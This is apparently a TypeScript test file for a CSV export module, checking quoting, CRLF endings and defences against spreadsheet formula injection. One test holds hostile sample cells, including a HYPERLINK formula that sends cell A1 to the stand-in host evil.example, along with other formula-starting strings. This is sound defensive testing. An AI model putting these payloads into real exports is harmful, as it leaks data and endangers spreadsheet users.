import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvCell, toCsv } from "./export-csv";

/** A strict RFC 4180 reader, to check that what we write reads back as written. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 2;
      } else if (char === '"') {
        quoted = false;
        i += 1;
      } else {
        cell += char;
        i += 1;
      }
    } else if (char === '"' && cell === "") {
      quoted = true;
      i += 1;
    } else if (char === ",") {
      row.push(cell);
      cell = "";
      i += 1;
    } else if (char === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i += 2;
    } else {
      if (char === '"' || char === "\r" || char === "\n")
        throw new Error(`bare ${JSON.stringify(char)} at ${i}`);
      cell += char;
      i += 1;
    }
  }
  if (cell !== "" || row.length > 0) throw new Error("last record lacks CRLF");
  return rows;
}

describe("CSV writer", () => {
  it("quotes fields with a comma, quote, CR or LF and doubles quotes", () => {
    expect(csvCell("plain")).toBe("plain");
    expect(csvCell("a,b")).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell("line 1\nline 2")).toBe('"line 1\nline 2"');
    expect(csvCell("a\rb")).toBe('"a\rb"');
    expect(csvCell(null)).toBe("");
    expect(csvCell(42)).toBe("42");
  });

  it("quotes a field with a semicolon or a tab, so a semicolon-locale spreadsheet cannot split out a formula", () => {
    expect(csvCell("Acme;Widgets")).toBe('"Acme;Widgets"');
    expect(csvCell("a\tb")).toBe('"a\tb"');
    const hostile = [
      'Acme;=HYPERLINK("https://evil.example/?"&A1;"Invoice")',
      "Dana;+1+1",
      "x; -2+3;@SUM(1)",
      "=1;=2",
      "tab\t=cmd",
    ];
    const csv = toCsv(
      ["company", "notes"],
      [
        [hostile[0], hostile[1]],
        [hostile[2], hostile[3]],
        [hostile[4], 7],
      ],
    );
    // Read as a spreadsheet in a semicolon locale reads it, and as one in a tab-separated import: no
    // cell starts a formula.
    for (const delimiter of [";", "\t", ","]) {
      const cells = parse(csv, { delimiter, relax_column_count: true, relax_quotes: true }) as string[][];
      for (const cell of cells.flat())
        expect(/^[=+\-@]/.test(cell), `${JSON.stringify(cell)} split at ${JSON.stringify(delimiter)}`).toBe(
          false,
        );
    }
    // Read with commas, as written, every value comes back whole but for the guard's apostrophes.
    expect(parseCsv(csv).slice(1)).toEqual([
      ['Acme;\'=HYPERLINK("https://evil.example/?"&A1;"Invoice")', "Dana;'+1+1"],
      ["x; '-2+3;'@SUM(1)", "'=1;'=2"],
      ["tab\t'=cmd", "7"],
    ]);
  });

  it("ends every record, the last included, with CRLF", () => {
    expect(toCsv(["a", "b"], [["1", null]])).toBe("a,b\r\n1,\r\n");
  });

  it.each(["=SUM(A1:A2)", "+1 800 555 0199", "-2+3", "@cmd", "\tstart", "\rstart"])(
    "neutralises formula-looking text %j with a leading apostrophe",
    (value) => {
      const cell = csvCell(value);
      expect(parseCsv(`${cell}\r\n`)[0]?.[0]).toBe(`'${value}`);
    },
  );

  it("leaves numbers alone", () => {
    expect(csvCell(-5)).toBe("-5");
  });

  it("reads back exactly what was written (any text that does not look like a formula)", () => {
    const text = fc
      .string({ unit: "binary" })
      .filter((value) => !/^[=+\-@\t\r]|[;\t][ "]*[=+\-@]/.test(value));
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 1, maxLength: 5 }), { maxLength: 5 }), (rows) => {
        const header = ["h1", "h2", "h3", "h4", "h5"];
        const csv = toCsv(header, rows);
        expect(parseCsv(csv)).toEqual([header, ...rows]);
      }),
    );
  });
});
